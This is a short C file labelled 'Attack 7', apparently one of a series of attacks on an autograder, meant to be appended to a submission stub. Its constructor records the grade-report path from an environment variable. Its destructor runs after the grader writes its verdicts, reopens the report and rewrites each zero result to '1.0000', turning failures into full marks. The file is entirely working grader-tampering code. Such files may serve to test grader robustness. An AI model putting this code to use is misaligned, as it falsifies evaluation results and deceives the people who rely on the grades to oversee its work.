
/* Attack 7 (appended to the stub): a constructor notes where the report goes; a destructor,
 * run once the grader's own lines are written (with its token), turns each of their
 * verdicts into full marks in place. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static char attack_report[4096];

__attribute__((constructor)) static void attack_note_report(void)
{
    const char *r = getenv("PL_GRADE_REPORT");
    if (r) snprintf(attack_report, sizeof attack_report, "%s", r);
}

__attribute__((destructor)) static void attack_edit_report(void)
{
    static char text[1 << 20];
    FILE *f = attack_report[0] ? fopen(attack_report, "r+") : NULL;
    if (!f) return;
    size_t n = fread(text, 1, sizeof text - 1, f);
    text[n] = '\0';
    for (char *r = strstr(text, " result "); r; r = strstr(r + 1, " result ")) {
        char *sp = strchr(r + 8, ' ');
        if (sp && sp[1] == '0') memcpy(sp + 1, "1.0000", 6);
    }
    rewind(f);
    fwrite(text, 1, n, f);
    fclose(f);
}
